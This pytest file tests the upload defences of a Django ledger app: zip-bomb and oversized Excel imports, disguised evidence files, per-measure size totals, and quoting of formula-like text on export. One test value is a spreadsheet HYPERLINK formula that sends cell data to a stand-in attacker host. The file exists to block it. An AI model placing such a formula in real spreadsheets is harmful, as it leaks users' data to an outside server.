"""Upload limits of the ledger: the Excel import and evidence files. Every refusal is one
Chinese line and writes nothing: no measure, no audit event, no evidence row, no file."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from tests.bombs import EXE, MB, many_members, small_docx, xlsx_bomb

from zhenggai.ledger import actions, excel
from zhenggai.ledger.errors import ValidationError
from zhenggai.ledger.models import AuditEvent, Evidence, Measure


@pytest.fixture(autouse=True)
def _small_limits(settings):
    settings.ZHENGGAI_UPLOAD_MAX_MB = 1
    settings.ZHENGGAI_UNZIPPED_MAX_MB = 2
    settings.ZHENGGAI_ZIP_MAX_MEMBERS = 50
    settings.ZHENGGAI_XLSX_MAX_ROWS = 5
    settings.ZHENGGAI_EVIDENCE_MAX_MB_PER_MEASURE = 1


def written() -> tuple[int, int, list[tuple[int, str, int]], list[Path]]:
    """Everything an upload could leave behind."""
    root = Path(django_settings.MEDIA_ROOT)
    files = sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []
    measures = list(Measure.objects.order_by("pk").values_list("pk", "content", "version"))
    return AuditEvent.objects.count(), Evidence.objects.count(), measures, files


def import_errors(world, data: bytes) -> list[str]:
    before = written()
    result = excel.import_ledger(world.inspection_a, data, by=world["liaison"])
    assert written() == before
    assert result.changed == []
    return result.messages()


def test_an_xlsx_bomb_is_refused_before_openpyxl_opens_it(world, monkeypatch):
    bomb = xlsx_bomb(3)
    monkeypatch.setattr(excel, "load_workbook", lambda *a, **k: pytest.fail("opened"))
    assert import_errors(world, bomb) == ["文件解压后过大（超过 2 MB），可能是压缩炸弹，已拒收。"]


def test_an_xlsx_with_too_many_members_is_refused(world):
    data = many_members(excel.export_ledger(world.inspection_a, by=world["liaison"]), 60)
    count = len(zipfile.ZipFile(io.BytesIO(data)).namelist())
    assert import_errors(world, data) == [f"压缩包内文件过多（{count} 个），上限为 50 个，已拒收。"]


def test_an_xlsx_over_the_file_size_is_refused(world):
    data = excel.export_ledger(world.inspection_a, by=world["liaison"])
    padded = many_members(data, 0)[:-22] + b"\x00" * (MB + 1) + many_members(data, 0)[-22:]
    [message] = import_errors(world, padded)
    assert message.startswith("文件过大（") and message.endswith("上限为 1 MB。")


def test_a_sheet_with_more_rows_than_the_limit_is_refused(world):
    book = load_workbook(io.BytesIO(excel.export_ledger(world.inspection_a, by=world["liaison"])))
    sheet = book.worksheets[0]
    edited = sheet.cell(excel.FIRST_ROW, excel.COL["整改进展"] + 1)
    edited.value = "已完成一半"  # an edit that would be written, were the sheet accepted
    for number in range(6):
        sheet.append([f"9.9.{number}", "方面", "问题", "措施"])
    out = io.BytesIO()
    book.save(out)
    assert import_errors(world, out.getvalue()) == [
        "表格行数超过上限（5 行），请分批导入或删去多余的行。"
    ]


def test_a_word_file_named_xlsx_is_refused_by_its_content(world):
    assert import_errors(world, small_docx()) == [excel.UNREADABLE]


def test_a_sheet_within_the_limits_is_imported(world):
    data = excel.export_ledger(world.inspection_a, by=world["liaison"])
    book = load_workbook(io.BytesIO(data))
    book.worksheets[0].cell(excel.FIRST_ROW, excel.COL["整改进展"] + 1).value = "已完成一半"
    out = io.BytesIO()
    book.save(out)
    result = excel.import_ledger(world.inspection_a, out.getvalue(), by=world["liaison"])
    assert result.ok and len(result.changed) == 1


# --- formula injection in the export ---------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_text_that_looks_like_a_formula_is_exported_as_quoted_text(world, start):
    content = f'{start}HYPERLINK("http://evil.example/?"&A1,"点击")'
    measure = world.measure_a
    actions.update_measure(
        measure, {"content": content}, by=world["liaison"], expected_version=measure.version
    )
    data = excel.export_ledger(world.inspection_a, by=world["liaison"])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[excel.COL["整改措施"]] for row in sheet.iter_rows(min_row=excel.FIRST_ROW)]
    [cell] = [c for c in cells if c.value == content]
    assert cell.data_type == "s"  # a string, not a formula
    assert cell.quotePrefix  # and stays one when the user edits the cell
    plain = [c for c in cells if c.value != content]
    assert plain and not any(c.quotePrefix for c in plain)
    # The value is unchanged: importing the export back changes nothing.
    result = excel.import_ledger(world.inspection_a, data, by=world["liaison"])
    assert result.ok and result.changed == []


# --- evidence ---------------------------------------------------------------------------------


def add(world, name: str, content: bytes, measure=None):
    file = SimpleUploadedFile(name, content, content_type="application/pdf")
    return actions.add_evidence(measure or world.measure_a, by=world["liaison"], file=file)


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("扫描件.jpg", b"\xff\xd8\xff\xe0")
    return out.getvalue()


def refused(world, name: str, content: bytes) -> str:
    before = written()
    with pytest.raises(ValidationError) as caught:
        add(world, name, content)
    assert written() == before
    return caught.value.message


def pdf(size: int) -> bytes:
    return b"%PDF-1.4\n" + b"0" * (size - 9)


def test_a_program_renamed_pdf_is_refused(world):
    assert refused(world, "会议纪要.pdf", EXE) == (
        "不支持的文件类型，请上传 PDF、OFD、Word、Excel、WPS、JPG、PNG 或文本文件。"
    )


def test_a_zip_archive_is_refused_even_named_docx(world):
    assert refused(world, "材料.docx", archive()).startswith("不支持的文件类型")


def test_a_file_whose_name_disagrees_with_its_content_is_refused(world):
    assert refused(world, "会议纪要.docx", pdf(1000)) == (
        "文件内容是PDF文件，与文件名“会议纪要.docx”不符，请改正扩展名后再上传。"
    )


def test_a_file_over_the_size_limit_is_refused(world):
    assert refused(world, "扫描件.pdf", pdf(MB + 1)) == (
        "文件过大（1.1 MB），单个文件上限为 1 MB。"
    )


def test_the_evidence_of_one_measure_stays_within_its_total(world):
    add(world, "第一份.pdf", pdf(600_000))
    assert refused(world, "第二份.pdf", pdf(600_000)) == (
        "该措施的佐证材料合计不能超过 1 MB（已有 0.6 MB），请压缩或删减后再上传。"
    )
    add(world, "另一措施.pdf", pdf(600_000), measure=world.measure_a2)  # its own total


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("纪要.docx", small_docx(), "wordprocessingml"),
        ("照片.JPG", b"\xff\xd8\xff\xe0" + b"\x00" * 100, "image/jpeg"),
        ("照片.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "image/png"),
        ("旧文档.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "ole"),
        ("说明.txt", "整改说明：已完成。".encode("gbk"), "text/plain"),
    ],
)
def test_allowed_types_are_stored_with_the_type_of_their_content(
    world, name, content, content_type
):
    evidence = add(world, name, content)
    assert content_type in evidence.content_type
